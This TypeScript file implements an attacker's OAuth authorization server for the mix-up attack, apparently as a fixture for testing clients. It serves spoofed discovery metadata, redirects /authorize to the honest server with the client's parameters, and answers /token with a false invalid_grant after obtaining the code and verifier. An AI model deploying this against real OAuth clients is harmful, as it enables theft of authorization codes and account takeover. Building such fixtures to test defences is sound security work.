import { queryFields } from '../../http/form.ts';
import type { Header, HttpRequest, HttpResponse } from '../../http/message.ts';
import { json } from '../../http/problem.ts';
import { rawPath } from '../../http/path.ts';

/** Where the attacker's authorization server is, and the honest one that it stands in for. */
export interface EvilIssuerConfig {
  readonly origin: string;
  readonly honest: string;
}

/** What every answer of an authorization server says of itself. RFC 8414 §2 */
function metadata({ origin }: EvilIssuerConfig): HttpResponse {
  return json(200, {
    issuer: origin,
    authorization_endpoint: `${origin}/authorize`,
    token_endpoint: `${origin}/token`,
    jwks_uri: `${origin}/jwks`,
    response_types_supported: ['code'],
    grant_types_supported: ['authorization_code'],
    code_challenge_methods_supported: ['S256'],
    subject_types_supported: ['public'],
    id_token_signing_alg_values_supported: ['RS256'],
    token_endpoint_auth_methods_supported: ['none', 'client_secret_basic', 'private_key_jwt'],
  });
}

/**
 * Sends the user on to the honest server with the client's own request, so that the code of the one server comes back
 * in a login that was begun at the other. The client is known here by the name it has there. RFC 9700 §4.4.1
 */
function passOn({ url }: HttpRequest, { honest }: EvilIssuerConfig): HttpResponse {
  const onward = new URL(`${honest}/authorize`);
  onward.search = new URLSearchParams(queryFields(url).map(([name, value]) => [name, value])).toString();
  const headers: Header[] = [
    ['Location', onward.href],
    ['Cache-Control', 'no-store'],
  ];
  return { status: 303, headers, body: '' };
}

/** It has what it wanted, code and verifier, and tells the client that nothing came of it. RFC 6749 §5.2 */
const REFUSED: HttpResponse = json(400, { error: 'invalid_grant' }, [['Cache-Control', 'no-store']]);

/** The attacker's authorization server; undefined for an address that is none of it. It looks like any other from outside. */
export function evilIssuer(request: HttpRequest, config: EvilIssuerConfig): HttpResponse | undefined {
  switch (rawPath(request.url)) {
    case '/.well-known/oauth-authorization-server':
    case '/.well-known/openid-configuration':
      return metadata(config);
    case '/authorize':
      return passOn(request, config);
    case '/token':
      return REFUSED;
    case '/jwks':
      return json(200, { keys: [] });
    default:
      return undefined;
  }
}
